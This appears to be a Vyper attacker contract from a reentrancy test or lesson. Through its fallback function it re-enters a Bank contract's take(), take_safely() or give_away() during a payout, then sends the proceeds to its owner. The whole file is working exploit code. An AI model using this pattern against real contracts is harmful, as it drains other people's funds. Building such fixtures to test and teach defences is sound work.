# pragma version ~=0.4.3
"""
@title Takes from a bank, and once more while it is being paid
@license Apache-2.0
@notice Each way of taking has its number: 1 the flawed one twice, 2 the safe one twice, 3 the flawed one and a gift.
@custom:trust Its owner.
@custom:stop Nobody.
"""

interface Bank:
    def bring(): payable
    def take(): nonpayable
    def take_safely(): nonpayable
    def give_away(receiver: address): nonpayable
    def report(): nonpayable


BANK: immutable(address)
OWNER: immutable(address)
way: uint256
times: uint256


@deploy
def __init__(bank: address):
    BANK = bank
    OWNER = msg.sender


@payable
@external
def rob(way: uint256):
    self.way = way
    self.times = 0
    extcall Bank(BANK).bring(value=msg.value)
    if way == 2:
        extcall Bank(BANK).take_safely()
    else:
        extcall Bank(BANK).take()
    send(OWNER, self.balance)


@external
def settle():
    extcall Bank(BANK).report()


@payable
@external
def __default__():
    if self.times == 0 and self.way > 0:
        self.times = 1
        if self.way == 1:
            extcall Bank(BANK).take()
        elif self.way == 2:
            done: bool = raw_call(BANK, method_id("take_safely()"), revert_on_failure=False)
        elif self.way == 3:
            extcall Bank(BANK).give_away(OWNER)
